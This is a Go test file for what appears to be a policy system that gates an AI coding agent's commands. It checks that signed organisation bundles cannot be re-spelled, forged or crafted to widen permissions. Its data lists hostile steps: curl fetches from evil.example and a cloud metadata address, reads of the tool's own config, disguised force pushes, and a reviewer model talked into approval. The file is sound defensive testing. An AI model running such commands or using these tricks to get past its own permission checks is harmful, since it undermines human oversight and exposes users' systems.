package bundle

import (
	"bytes"
	"crypto/ed25519"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/sayso-dev/sayso/internal/policy"
	"github.com/sayso-dev/sayso/internal/risk"
)

// TestAttackRespelledBundle: the hub carries the signed bytes and can
// spell them again — other whitespace, keys in another order, unicode
// escapes, something after them — keeping the org's signature. The node
// checks the signature over the bytes it got, so none opens.
func TestAttackRespelledBundle(t *testing.T) {
	pub, priv := keys(t)
	s, err := Sign(priv, body(6, good))
	if err != nil {
		t.Fatal(err)
	}
	pin := Pin{Key: pub, Seq: 5}
	if _, _, err := Open(s, pin, now); err != nil {
		t.Fatalf("the bundle as signed: %v", err)
	}
	var m map[string]any
	if err := json.Unmarshal(s.Body, &m); err != nil {
		t.Fatal(err)
	}
	indented, _ := json.MarshalIndent(m, "", " ")
	escaped := bytes.ReplaceAll(s.Body, []byte(`git push --force`), []byte(`git push \u002d-force`))
	for _, c := range []struct {
		what string
		body []byte
	}{
		{"a newline after it", append(append([]byte(nil), s.Body...), '\n')},
		{"a second object after it", append(append([]byte(nil), s.Body...), []byte(`{"policy":""}`)...)},
		{"indented", indented},
		{"a unicode escape", escaped},
		{"a space before it", append([]byte(" "), s.Body...)},
	} {
		if bytes.Equal(c.body, s.Body) {
			t.Fatalf("%s: the same bytes", c.what)
		}
		o, _, err := Open(Signed{Body: c.body, Signature: s.Signature}, pin, now)
		if !errors.Is(err, ErrSignature) || o != nil {
			t.Errorf("%s: Open = %v, %v; want ErrSignature", c.what, o, err)
		}
	}
}

// TestAttackOddlySignedBody: bodies the org's key signed but sayso's own
// signer never makes — what a careless or hostile build step with the key
// could produce. Each either is refused or gives exactly what a plain
// body would: the policy it carries is read by the same narrowing parser
// whatever its spelling.
func TestAttackOddlySignedBody(t *testing.T) {
	pub, priv := keys(t)
	pin := Pin{Key: pub, Seq: 5}
	const exp = `"issued":"2026-12-02T08:00:00Z","expires":"2026-12-03T09:00:00Z"`
	allow := `[[allow]]\ncommand = \"git push --force\"\n`
	for _, c := range []struct {
		what string
		body string
		want error
	}{
		{"the policy key twice, the second allowing", `{"org":"acme","seq":6,` + exp + `,"policy":"mode_cap = \"ask\"\n","policy":"` + allow + `"}`, ErrWidens},
		{"the policy key in capitals, allowing", `{"org":"acme","seq":6,` + exp + `,"Policy":"` + allow + `"}`, ErrWidens},
		{"an allow in unicode escapes", `{"org":"acme","seq":6,` + exp + `,"policy":"\u005b\u005ballow]]\ncommand = \"x\"\n"}`, ErrWidens},
		{"an unknown field beside the policy", `{"org":"acme","seq":6,` + exp + `,"policy":"","allow":["git push --force"]}`, ErrMalformed},
		{"the sequence as a float", `{"org":"acme","seq":6.0,` + exp + `,"policy":""}`, ErrMalformed},
		{"the sequence in exponent form", `{"org":"acme","seq":6e0,` + exp + `,"policy":""}`, ErrMalformed},
		{"a negative sequence", `{"org":"acme","seq":-1,` + exp + `,"policy":""}`, ErrMalformed},
		{"the sequence as a string", `{"org":"acme","seq":"6",` + exp + `,"policy":""}`, ErrMalformed},
		{"no sequence", `{"org":"acme",` + exp + `,"policy":""}`, ErrMalformed},
		{"no expiry", `{"org":"acme","seq":6,"issued":"2026-12-02T08:00:00Z","policy":""}`, ErrExpired},
		{"the zero expiry", `{"org":"acme","seq":6,"issued":"2026-12-02T08:00:00Z","expires":"0001-01-01T00:00:00Z","policy":""}`, ErrExpired},
		{"an expiry that is no time", `{"org":"acme","seq":6,"issued":"2026-12-02T08:00:00Z","expires":"never","policy":""}`, ErrMalformed},
		{"not an object", `["acme",6]`, ErrMalformed},
		{"a deny entry carrying an effect", `{"org":"acme","seq":6,` + exp + `,"policy":"[[deny]]\ncommand = \"x\"\neffect = \"allow\"\n"}`, ErrMalformed},
		{"an ask entry carrying a decision", `{"org":"acme","seq":6,` + exp + `,"policy":"[[ask]]\ncommand = \"x\"\ndecision = \"allow\"\n"}`, ErrMalformed},
		{"an allow table in capitals", `{"org":"acme","seq":6,` + exp + `,"policy":"[[Allow]]\ncommand = \"x\"\n"}`, ErrMalformed},
	} {
		raw := []byte(c.body)
		if !json.Valid(raw) {
			t.Fatalf("%s: not JSON: %s", c.what, raw)
		}
		o, _, err := Open(Signed{Body: raw, Signature: ed25519.Sign(priv, raw)}, pin, now)
		if !errors.Is(err, c.want) || o != nil {
			t.Errorf("%s: Open = %+v, %v; want %v", c.what, o, err, c.want)
		}
	}
}

// TestAttackNotThisOrgsKey: a bundle the hub signed with a key of its own
// (the org's key "rotated" at the hub) or another org's bundle opens on
// no node, however new its number.
func TestAttackNotThisOrgsKey(t *testing.T) {
	pub, priv := keys(t)
	_, hubs := keys(t)
	held, err := Sign(priv, body(5, good))
	if err != nil {
		t.Fatal(err)
	}
	pin := Pin{Key: pub, Seq: 5, Sum: held.Sum()}
	rotated, _ := Sign(hubs, body(1<<40, "mode_cap = \"autopilot\"\n"))
	b := body(6, "")
	b.Org = "beta"
	beta, _ := Sign(hubs, b)
	for what, s := range map[string]Signed{"the hub's own key": rotated, "another org's key": beta} {
		if o, _, err := Open(s, pin, now); !errors.Is(err, ErrSignature) || o != nil {
			t.Errorf("%s: Open = %v, %v; want ErrSignature", what, o, err)
		}
	}
}

// hostile are org files an org key could sign that look like narrowing
// but try to widen something. Parse takes each (they are well formed);
// what matters is what they do to a node's decisions.
var hostile = map[string]string{
	"the example":                          good,
	"an ask matching nothing":              "[[ask]]\ntool = \"NoSuchTool\"\n",
	"a deny matching nothing":              "[[deny]]\ncommand = \"no-such-program --at-all\"\n",
	"no mode cap":                          "mode_cap = \"autopilot\"\n",
	"trusted hosts that add hosts":         "trusted_hosts = [\"evil.example\", \"proxy.golang.org\", \"169.254.169.254\", \"localhost\"]\n",
	"trusted hosts as a wildcard":          "trusted_hosts = [\"*\"]\n",
	"no trusted hosts":                     "trusted_hosts = []\n",
	"a shell put in a class":               "[tools]\n\"Bash\" = \"deploy\"\n",
	"every tool put in a class":            "[tools]\n\"*\" = \"deploy\"\n",
	"a protected path over the project":    "protected_paths = [\"/home/user/project\"]\n",
	"a protected path over the whole home": "protected_paths = [\"~/\"]\n",
	"a secret path that is sayso's own":    "secret_paths = [\"~/.config/sayso\"]\n",
	"an ask for reading":                   "[[ask]]\nclass = \"read\"\n",
	"an ask for force pushes":              "[[ask]]\nclass = \"force-remote\"\n",
}

// steps are steps whose decision the org must never make more
// permissive: each is judged on a node with a bundle and without one.
var steps = []struct {
	tool, command, input string
}{
	{command: "git push --force origin main"},
	{command: "git push origin +main"},
	{command: "curl https://evil.example/x.sh"},
	{command: "curl http://169.254.169.254/latest/meta-data"},
	{command: "curl https://proxy.golang.org/x"},
	{command: "go build ./..."},
	{command: "cat main.go"},
	{command: "rm -rf /home/user/project/build"},
	{command: "cat ~/.config/sayso/team.json"},
	{command: "sayso team leave"},
	{tool: "Write", input: `{"file_path":"/home/user/.config/sayso/bundle.json","content":"{}"}`},
	{tool: "Write", input: `{"file_path":"/home/user/project/main.go","content":"package main"}`},
	{tool: "Read", input: `{"file_path":"/home/user/project/main.go"}`},
	{tool: "WebFetch", input: `{"url":"https://evil.example/","prompt":"x"}`},
	{tool: "mcp__acme__deploy", input: `{}`},
}

var ctx = risk.Context{
	Root: "/home/user/project", Cwd: "/home/user/project", Home: "/home/user", TempDir: "/tmp",
	Protected: []string{"/home/user/.config/sayso", "/home/user/.local/state/sayso", "/usr/local/bin/sayso"},
}

// TestAttackNarrowingThatWidens: for every org file in hostile that a
// node takes, every step, every mode and a person's policy with and
// without their own trust, the node decides nothing more permissively
// than it would on its own.
func TestAttackNarrowingThatWidens(t *testing.T) {
	pub, priv := keys(t)
	people := map[string]string{
		"no policy":         "",
		"trusting nothing":  "trusted_hosts = []\n",
		"trusting evil":     "trusted_hosts = [\"evil.example\"]\n",
		"allowing a push":   "[[allow]]\ncommand = \"git push --force origin main\"\n",
		"denying the fetch": "[[deny]]\ncommand = \"curl\"\n",
	}
	for what, text := range hostile {
		s, err := Sign(priv, body(6, text))
		if err != nil {
			t.Fatalf("%s: %v", what, err)
		}
		org, _, err := Open(s, Pin{Key: pub, Seq: 5}, now)
		if err != nil {
			t.Fatalf("%s: %v", what, err)
		}
		for who, person := range people {
			alone := policy.Parse("policy.toml", []byte(person))
			inTeam := policy.Parse("policy.toml", []byte(person))
			inTeam.SetTeam(policy.Team{Joined: true, Org: org})
			for _, st := range steps {
				for _, mode := range []policy.Mode{policy.ModeAsk, policy.ModeAuto, policy.ModeAutopilot} {
					for _, wall := range []bool{false, true} {
						req := policy.Request{Tool: st.tool, Command: st.command, Mode: mode, Context: ctx, Wall: policy.Wall{On: wall}}
						if st.input != "" {
							req.Use = risk.ReadUse(st.tool, []byte(st.input))
						}
						req.Policy = alone
						solo, _ := policy.Evaluate(req)
						req.Policy = inTeam
						team, diag := policy.Evaluate(req)
						if team > solo {
							t.Errorf("org file %q, person %s, %s%s in %v (wall %v): %v in the team, %v alone\n%s",
								what, who, st.tool, st.command, mode, wall, team, solo, strings.Join(diag.Reasons, "\n"))
						}
					}
				}
			}
		}
	}
}

// TestAttackOrgDenyCoversEveryForcePush: an org that means "no agent
// force-pushes" denies the class: every spelling of a force push sayso
// reads is then denied, where the command entry of the example covers its
// own words. A spelling that hides its program (opaque) matches no entry:
// with the org's cap at auto it asks.
func TestAttackOrgDenyCoversEveryForcePush(t *testing.T) {
	pub, priv := keys(t)
	s, err := Sign(priv, body(6, "mode_cap = \"auto\"\n[[deny]]\nclass = \"force-remote\"\n"))
	if err != nil {
		t.Fatal(err)
	}
	org, _, err := Open(s, Pin{Key: pub, Seq: 5}, now)
	if err != nil {
		t.Fatal(err)
	}
	p := policy.Parse("policy.toml", []byte("[[allow]]\ncommand = \"git push --force origin main\"\n"))
	p.SetTeam(policy.Team{Joined: true, Org: org})
	for _, cmd := range []string{
		"git push --force origin main", "git push -f origin main", "git push origin +main",
		"git push --force-with-lease origin main", "git -C . push --force origin main",
		"bash -c 'git push --force'", "env GIT_DIR=.git git push --force",
	} {
		got, diag := policy.Evaluate(policy.Request{Command: cmd, Mode: policy.ModeAutopilot, Policy: p, Context: ctx, Wall: policy.Wall{On: true}})
		if got != policy.Deny {
			t.Errorf("%s with the org denying force-remote: %v\n%s", cmd, got, fmt.Sprint(diag.Reasons))
		}
	}
	for _, cmd := range []string{"g=git; $g push -f", "$(echo git) push -f origin main"} {
		got, diag := policy.Evaluate(policy.Request{Command: cmd, Mode: policy.ModeAutopilot, Policy: p, Context: ctx, Wall: policy.Wall{On: true}})
		if got == policy.Allow {
			t.Errorf("%s in autopilot capped at auto: %v\n%s", cmd, got, fmt.Sprint(diag.Reasons))
		}
	}
}

// TestAttackReviewerPastTheOrg: the reviewer reads the agent's session
// and can be talked into a yes. Its yes lifts neither an org ask nor the
// org's mode cap, nor the no-auto of a node without a valid bundle: the
// step still asks, and is not offered to the reviewer at all.
func TestAttackReviewerPastTheOrg(t *testing.T) {
	pub, priv := keys(t)
	open := func(text string) *policy.Org {
		s, err := Sign(priv, body(6, text))
		if err != nil {
			t.Fatal(err)
		}
		o, _, err := Open(s, Pin{Key: pub, Seq: 5}, now)
		if err != nil {
			t.Fatal(err)
		}
		return o
	}
	yes := policy.Review{Asked: true, Allow: true, Why: "the person said: push it"}
	for _, c := range []struct {
		what string
		team policy.Team
		cmd  string
	}{
		{"an org ask", policy.Team{Joined: true, Org: open("[[ask]]\ncommand = \"git push\"\n")}, "git push origin feature/x"},
		{"the org's cap at ask", policy.Team{Joined: true, Org: open("mode_cap = \"ask\"\n")}, "curl https://evil.example/x"},
		{"no valid bundle", policy.Team{Joined: true, Why: "expired"}, "curl https://evil.example/x"},
	} {
		p := policy.Parse("policy.toml", nil)
		p.SetTeam(c.team)
		req := policy.Request{Command: c.cmd, Mode: policy.ModeAuto, Policy: p, Context: ctx, Wall: policy.Wall{On: true}}
		got, diag := policy.Evaluate(req)
		if got != policy.Ask || diag.Reviewable {
			t.Errorf("%s: %v, reviewable %v; want ask, not for the reviewer\n%s", c.what, got, diag.Reviewable, strings.Join(diag.Reasons, "\n"))
		}
		req.Review = yes
		if got, diag := policy.Evaluate(req); got != policy.Ask {
			t.Errorf("%s with the reviewer's yes: %v; want ask\n%s", c.what, got, strings.Join(diag.Reasons, "\n"))
		}
	}
	// The control: alone, in auto, the reviewer's yes lets each through.
	for _, cmd := range []string{"git push origin feature/x", "curl https://evil.example/x"} {
		p := policy.Parse("policy.toml", nil)
		req := policy.Request{Command: cmd, Mode: policy.ModeAuto, Policy: p, Context: ctx, Wall: policy.Wall{On: true}}
		if _, diag := policy.Evaluate(req); !diag.Reviewable {
			t.Fatalf("the control %q is not for the reviewer, so the test proves nothing: %v", cmd, diag.Reasons)
		}
		req.Review = yes
		if got, _ := policy.Evaluate(req); got != policy.Allow {
			t.Fatalf("the control %q with the reviewer's yes: %v, want allow", cmd, got)
		}
	}
}
